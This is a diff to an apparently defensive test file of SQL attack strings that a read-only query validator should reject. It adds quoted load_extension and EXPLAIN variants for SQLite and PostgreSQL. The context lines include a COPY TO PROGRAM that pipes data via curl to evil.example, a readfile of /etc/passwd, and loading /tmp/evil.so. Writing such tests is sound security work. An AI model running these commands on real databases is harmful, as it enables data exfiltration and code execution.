@@ -52,6 +52,8 @@ const postgres: Attack[] = [
   // EXPLAIN
   ['EXPLAIN ANALYZE DELETE FROM users', 'read-only.explain-analyze'],
   ['EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1', 'read-only.explain-analyze'],
+  ['EXPLAIN ANALYSE VERBOSE SELECT 1', 'read-only.explain-analyze'],
+  ['EXPLAIN EXECUTE stmt', 'read-only.statement-kind'],
   ['EXPLAIN DELETE FROM users', 'read-only.statement-kind'],
   // statements that are not reads
   ["COPY users TO PROGRAM 'curl -d @- evil.example'", 'read-only.statement-kind'],
@@ -136,6 +138,8 @@ const sqlite: Attack[] = [
   ["SELECT readfile('/etc/passwd')", 'read-only.function'],
   ["SELECT fts3_tokenizer('simple', x'41')", 'read-only.function'],
   ["SELECT * FROM users WHERE id IN (SELECT edit('x'))", 'read-only.function'],
+  ['SELECT "load_extension"(\'/tmp/evil.so\')', 'read-only.function'],
+  ["SELECT `LOAD_EXTENSION`('/tmp/evil.so')", 'read-only.function'],
   ["SELECT name FROM users WHERE load_extension('x') IS NULL", 'read-only.function'],
   ["ATTACH DATABASE '/tmp/x.db' AS x", 'read-only.statement-kind'],
   ['DELETE FROM users', 'read-only.statement-kind'],
